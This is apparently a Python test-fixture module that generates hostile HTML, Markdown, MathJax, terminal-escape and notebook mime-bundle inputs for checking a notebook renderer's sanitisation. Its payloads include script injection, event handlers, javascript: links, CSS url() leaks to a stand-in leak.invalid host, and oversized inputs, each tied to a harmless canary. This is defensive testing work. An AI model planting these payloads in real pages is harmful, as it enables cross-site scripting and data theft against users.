"""Hostile text and outputs; those that act call `__canary(name)` or request an address on leak.invalid.

Each text names itself, so that a page can be searched for it.
"""

from __future__ import annotations

import base64
import json
import struct
import zlib
from typing import Any

__all__ = ["ALL", "BUNDLES", "LIVE", "MARKDOWN", "TEXTS", "cells", "live_outputs", "program"]

PIXEL = base64.b64encode(
    b"\x89PNG\r\n\x1a\n"
    + b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        for kind, data in (
            (b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)),
            (b"IDAT", zlib.compress(b"\0\x80")),
            (b"IEND", b""),
        )
    )
).decode()

#: `FIRE` stands for a call of the canary, `URL` for an address outside, each with the payload's own name.
_TEXTS = {
    "script": "<script>FIRE</script>",
    "script-address": "<script src=URL></script>",
    "script-split": "<script\n>FIRE</script\t>",
    "script-slash": "<script/x>FIRE</script>",
    "script-module": '<script type=module>import "URL";FIRE</script>',
    "script-nested": "<scr<script>ipt>FIRE</scr</script>ipt>",
    "script-upper": "<SCRIPT>FIRE</SCRIPT>",
    "img-onerror": "<img src=x: onerror=FIRE>",
    "img-unclosed": "<img src=x: onerror=FIRE //",
    "img-address": "<img src=URL>",
    "img-srcset": "<img srcset='URL 1x'>",
    "picture": "<picture><source srcset=URL><img></picture>",
    "svg-onload": "<svg onload=FIRE>",
    "svg-script": "<svg><script>FIRE</script></svg>",
    "svg-use": "<svg><use href='URL#x'/></svg>",
    "svg-foreign": "<svg><foreignObject><img src=x: onerror=FIRE></foreignObject></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:FIRE /><text y=20>x</text></a></svg>",
    "math-href": "<math href='javascript:FIRE'><mtext>x</mtext></math>",
    "math-breakout": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x: onerror=FIRE&gt;'>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.FIRE</script>'></iframe>",
    "iframe-script": "<iframe src='javascript:parent.FIRE'></iframe>",
    "iframe-address": "<iframe src=URL></iframe>",
    "object": "<object data=URL></object>",
    "embed": "<embed src=URL>",
    "video": "<video poster=URL src=x: onerror=FIRE></video>",
    "audio": "<audio autoplay src=URL onerror=FIRE></audio>",
    "body-onload": "<body onload=FIRE>",
    "details": "<details open ontoggle=FIRE>x</details>",
    "autofocus": "<input autofocus onfocus=FIRE>",
    "marquee": "<marquee onstart=FIRE>x</marquee>",
    "animation": "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=FIRE>x</b>",
    "style-import": "<style>@import 'URL';</style>",
    "style-url": "<p style='background:url(URL)'>x</p>",
    "style-font": "<style>@font-face{font-family:f;src:url(URL)}*{font-family:f}</style>",
    "style-expression": "<p style='width:expression(FIRE);behavior:url(URL)'>x</p>",
    "style-fixed": "FIRE<div style='position:fixed;inset:0;background:red;z-index:99999'>Score: 100</div>",
    "style-hide": "FIRE<style>body *{display:none!important}</style>",
    "style-selector": "<style>input[value^='1']{background:url(URL)}</style>",
    "stylesheet": "<link rel=stylesheet href=URL>",
    "preload": "<link rel=preload as=image href=URL>",
    "manifest": "<link rel=icon href=URL>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=URL'>",
    "meta-script": "<meta http-equiv=refresh content='0;url=javascript:FIRE'>",
    "base": "<base href=URL/>",
    "form": "<form action=URL id=f><button autofocus>x</button></form>",
    "formaction": "<form><button formaction=javascript:FIRE>x</button></form>",
    "anchor": "<a href=javascript:FIRE>x</a>",
    "anchor-data": "<a href='data:text/html,<script>FIRE</script>'>x</a>",
    "anchor-ping": "<a href=#x ping=URL>x</a>",
    "close-textarea": "</textarea><script>FIRE</script>",
    "close-title": "</title></style></noscript><script>FIRE</script>",
    "close-pre": "</code></pre></div></div></div></td></table><script>FIRE</script>",
    "close-script": "</script><script>FIRE</script>",
    "close-comment": "--><script>FIRE</script><!--",
    "close-cdata": "]]><script>FIRE</script><![CDATA[",
    "attribute": '"onmouseover="FIRE" x="',
    "attribute-single": "' autofocus onfocus='FIRE' x='",
    "attribute-backtick": "` onerror=`FIRE` x=`",
    "string": '";FIRE;//',
    "string-single": "\\';FIRE;//",
    "template": "{{7*7}}{% print(8*8) %}{# FIRE #}",
    "template-code": "{{ ''.__class__.__mro__ }} FIRE",
    "template-literal": "${FIRE}",
    "entities": "&lt;script&gt;FIRE&lt;/script&gt;",
    "entities-numeric": "&#60;img src=x: onerror=FIRE&#62;",
    "utf7": "+ADw-script+AD4-FIRE+ADw-/script+AD4-",
    "shadow": "<div><template shadowrootmode=open><img src=x: onerror=FIRE></template></div>",
    "plaintext": "<plaintext>FIRE",
    "unclosed-comment": "<!-- FIRE",
    "unclosed-textarea": "<textarea>FIRE",
    "dialog": "<dialog open style='width:100vw'>FIRE</dialog>",
    "processing": "<?xml-stylesheet href='URL'?><!DOCTYPE x [<!ENTITY e SYSTEM 'URL'>]>FIRE",
    "colours": "\x1b[31mFIRE\x1b[2J\x1b[1;1H",
    "terminal-link": "\x1b]8;;javascript:FIRE\x07x\x1b]8;;\x07",
    "terminal-c1": "\x9b31mFIRE\x9d0;x\x9c",
    "override": "\u202eFIRE\u202d",
    "isolate": "\u2067\u2066FIRE",
    "controls": "FIRE\x01\x08\x0b\x0c\x1f\x7f\x85",
    "zero-width": "FIRE\u200b<\u200bscript>\u2060\ufeff\u00adx",
    "marks": "FIRE z" + "\u0300\u0301\u0302\u0303\u0304" * 40,
    "line-ends": "FIRE\u2028x\u2029y" + "\n" * 30,
    "long": "FIRE" + "W" * 5000,
    "long-wide": "FIRE" + "\u4e16" * 2000 + "\ufdfd" * 200,
    "spaces": "FIRE" + "\u00a0" * 3000 + "\t" * 200 + "x",
    "nested": "FIRE" + "<div>" * 10_000,
}

#: Texts that act if Markdown or MathJax reads them.
_MARKDOWN = {
    "md-link": "[x](javascript:FIRE)",
    "md-link-bracket": "[x](<javascript:FIRE>)",
    "md-link-space": "[x]( \tjavascript:FIRE)",
    "md-link-control": "[x](\x01javascript:FIRE)",
    "md-link-entity": "[x](&#106;avascript&colon;FIRE)",
    "md-link-escape": "[x](javascript\\:FIRE)",
    "md-link-data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== 'FIRE')",
    "md-link-relative": "[x](/logout 'FIRE')",
    "md-link-protocol": "[x](//leak.invalid/x 'FIRE')",
    "md-link-title": "[x](http://a.invalid \"t'onmouseover='FIRE\")",
    "md-reference": "[ref]\n\n[ref]: javascript:FIRE",
    "md-reference-next": "[ref2]\n\n[ref2]:\n    javascript:FIRE",
    "md-autolink": "<javascript:FIRE> FIRE",
    "md-image": "![FIRE](URL)",
    "md-image-reference": "![FIRE][img]\n\n[img]: URL",
    "md-image-short": "![img2]\n\n[img2]: URL\n\nFIRE",
    "md-image-relative": "![FIRE](/logout)",
    "md-image-protocol": "![FIRE](//leak.invalid/x)",
    "md-image-script": "![FIRE](javascript:FIRE)",
    "md-image-quote": '![FIRE](x"onerror="FIRE)',
    "md-image-alt": "![x' onerror='FIRE](x:)",
    "md-image-linked": "[![FIRE](URL)](http://a.invalid)",
    "md-image-nested": "![a ![FIRE](URL)](URL)",
    "md-image-escape": "!\\[x](URL) \\![FIRE](URL)",
    "md-image-svg": "![FIRE](data:image/svg+xml,<svg onload=FIRE>)",
    "md-image-missing": "![FIRE](attachment:none.png)",
    "md-fence": "```html\n</pre><script>FIRE</script>\n```",
    "md-fence-info": '```"><script>FIRE</script>\nx\n```',
    "md-fence-break": "```\nx\n```\n<script>FIRE</script>",
    "md-mermaid": "```mermaid\ngraph TD; A-->B; click A 'javascript:FIRE'\n<script>FIRE</script>\n```",
    "md-table": "|a|b|\n|-|-|\n|<script>FIRE</script>|x|",
    "md-code": "`<script>FIRE</script>`",
    "md-indented": "    <script>FIRE</script>",
    "md-heading": "# <script>FIRE</script>",
    "md-quote": "> <script>FIRE</script>",
    "md-task": "- [ ] <script>FIRE</script>",
    "md-block": "<div>\n\n**x** <script>FIRE</script>\n\n</div>",
    "md-math-html": "$<script>FIRE</script>$",
    "tex-href": "$\\href{javascript:FIRE}{x}$",
    "tex-display": "$$\\href{javascript:FIRE}{x}$$ \\[\\href{javascript:FIRE}{y}\\]",
    "tex-environment": "\\begin{equation}\\href{javascript:FIRE}{x}\\end{equation}",
    "tex-require": "$\\require{URL}$ FIRE",
    "tex-unicode": "$\\unicode[x;background:url(URL)]{x41}$ FIRE",
    "tex-style": "$\\style{position:fixed;top:0;left:0;font-size:900px;background:url(URL)}{x}$ FIRE",
    "tex-class": "$\\class{modal fade in}{x}\\cssId{main-table}{x}$ FIRE",
    "tex-token": "$\\mmlToken{mi}[href='javascript:FIRE']{x}$",
    "tex-define": "$\\def\\frac#1#2{42}\\newcommand\\x{\\x\\x}\\let\\h=\\href$ $\\h{javascript:FIRE}{x}\\x$",
    "tex-rule": "$\\rule{900em}{900em}$ $\\Rule{900em}{900em}{9em}$ FIRE",
    "tex-space": "$x\\hspace{-900em}y\\kern-900em z\\hskip 900em\\mkern900mu\\Space{9em}{900em}{0em}$ FIRE",
    "tex-raise": "$\\raise900em{x}\\lower 900em{y}\\moveleft 900em{z}\\rlap{x}\\llap{x}$ FIRE",
    "tex-rows": "$$\\begin{array}{c}x\\\\[-900em]y\\cr[900em]z\\end{array}$$ FIRE",
    "tex-line": "$\\genfrac{}{}{900em}{}{a}{b} {a \\above900em b}\\bbox[900em]{x}$ FIRE",
    "md-heading-long": "# FIRE" + "W" * 3000,
    "md-setext-long": "FIRE" + "W" * 3000 + "\n===",
    "md-address-long": "http://a.invalid/FIRE" + "w" * 3000,
    "md-signs-long": "FIRE" + "{}" * 1500,
    "md-rule-long": "FIRE" + "=" * 3000,
    "md-table-wide": "|" + "FIRE|" * 100 + "\n|" + "-|" * 100,
    "md-list-deep": "FIRE\n\n" + "\n".join("  " * n + "- x" for n in range(200)),
    "md-quote-deep": ">" * 500 + " FIRE",
    "tex-negative": "$x" + "\\!" * 3000 + "y$ FIRE",
    "tex-smash": "$\\smash{\\begin{array}{c}" + "x\\\\" * 60 + "\\end{array}}$ FIRE",
    "tex-entity": "$&bsol;href{javascript:FIRE}{x}$ &dollar;&bsol;href{javascript:FIRE}{x}&dollar;",
    "tex-doubled": "$x$ \\\\(\\\\href{javascript:FIRE}{x}\\\\)",
    "tex-many": "\\begin{a}" * 1000 + " FIRE",
    "tex-long": "$" + "x+" * 3000 + "y$ FIRE",
    "tex-html": "$\\text{<img src=x: onerror=FIRE>}$",
}


def _named(name: str, text: str) -> str:
    return text.replace("FIRE", f"__canary('{name}')").replace("URL", f"http://leak.invalid/{name}")


TEXTS = {name: _named(name, text) for name, text in _TEXTS.items()}
MARKDOWN = {name: _named(name, text) for name, text in _MARKDOWN.items()}

ALL = TEXTS | MARKDOWN

_HTML = TEXTS["img-onerror"]

#: Mime bundles, and metadata of their outputs, as a program can publish them.
BUNDLES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    **{f"html-{name}": ({"text/html": text}, {}) for name, text in TEXTS.items()},
    "html-and-text": ({"text/html": _HTML, "text/plain": _HTML}, {}),
    "html-trusted": ({"text/html": _HTML}, {"trusted": True, "isolated": True}),
    "javascript": ({"application/javascript": "__canary('javascript')"}, {}),
    "javascript-text": ({"text/javascript": "__canary('javascript-text')"}, {}),
    "svg": ({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"__canary('svg')\"></svg>"}, {}),
    "latex": ({"text/latex": _named("latex", "$\\href{javascript:FIRE}{x}$<img src=x: onerror=FIRE>")}, {}),
    **{f"markdown-{name}": ({"text/markdown": text}, {}) for name, text in MARKDOWN.items()},
    "pdf": ({"application/pdf": base64.b64encode(b"%PDF-1.7").decode()}, {}),
    "mermaid": ({"text/vnd.mermaid": _named("mermaid", "graph TD; A-->B</div><script>FIRE</script>")}, {}),
    "widget": (
        {"application/vnd.jupyter.widget-view+json": {"model_id": _named("widget", "</script><script>FIRE</script>")}},
        {},
    ),
    "widget-state": ({"application/vnd.jupyter.widget-state+json": {"state": {"a": _HTML}}}, {}),
    "plotly": ({"application/vnd.plotly.v1+json": {"data": [], "layout": {"title": _HTML}}, "text/html": _HTML}, {}),
    "bokeh": ({"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": "__canary('bokeh')"}, {}),
    "type-name": ({_HTML: "x", '"><script>': "y"}, {_HTML: _HTML}),
    "not-png": ({"image/png": "\" onerror=\"__canary('not-png')"}, {}),
    "png-metadata": ({"image/png": PIXEL}, {"image/png": {"width": "1\" onload=\"__canary('png')", "height": 9**9}}),
    "jpeg": ({"image/jpeg": "\" onerror=\"__canary('jpeg')"}, {}),
    "gif": ({"image/gif": "\" onerror=\"__canary('gif')"}, {}),
}


def program() -> str:
    """Return Python that prints every text, warns of it, and displays every bundle.

    The texts are packed, because a browser needs long for a page with a hundred lines of them as code.
    """
    packed = base64.b64encode(zlib.compress(json.dumps([[*ALL.values()], [*BUNDLES.values()]]).encode())).decode()
    return f"""
import base64, json, sys, zlib
from IPython.display import publish_display_data
TEXTS, BUNDLES = json.loads(zlib.decompress(base64.b64decode({packed!r})))
for _text in TEXTS:
    print(_text)
    print(_text, file=sys.stderr)
for _data, _metadata in BUNDLES:
    publish_display_data(_data, _metadata)
"""


def cells(kind: str = "markdown") -> list[dict[str, Any]]:
    """Return a cell for each text, with hostile metadata, and attachments if its type can have any."""
    made: list[dict[str, Any]] = []
    for name, text in ALL.items():
        metadata = {
            "tags": [_HTML, '"><script>'],
            "name": _HTML,
            "raw_mimetype": "text/html",
            "nbgrader": {"grade_id": _HTML, "grade": True, "solution": True, "points": 1, "schema_version": 3},
        }
        cell: dict[str, Any] = {"cell_type": kind, "id": f"x-{len(made)}", "metadata": metadata, "source": text}
        if kind == "markdown":
            cell["attachments"] = {
                f"{name}\"'><script>.png": {"image/png": PIXEL},
                "a.svg": {"image/svg+xml": base64.b64encode(TEXTS["svg-onload"].encode()).decode()},
                "b.png": {"image/png": '" onerror="__canary()', "text/html": _HTML},
            }
        made.append(cell)
    return made


#: A few texts that act wherever nothing makes them harmless.
LIVE = ("script", "img-onerror", "img-address", "svg-onload", "iframe-srcdoc", "style-import", "details")


def live_outputs() -> list[dict[str, Any]]:
    """Return these few as outputs, in a notebook's own format."""
    return [
        {"output_type": "display_data", "data": {"text/html": TEXTS[name]}, "metadata": {}}
        for name in LIVE
        if name != "style-import"
    ] + [
        {"output_type": "display_data", "data": data, "metadata": metadata}
        for data, metadata in (BUNDLES["javascript"], BUNDLES["svg"], BUNDLES["latex"])
    ]
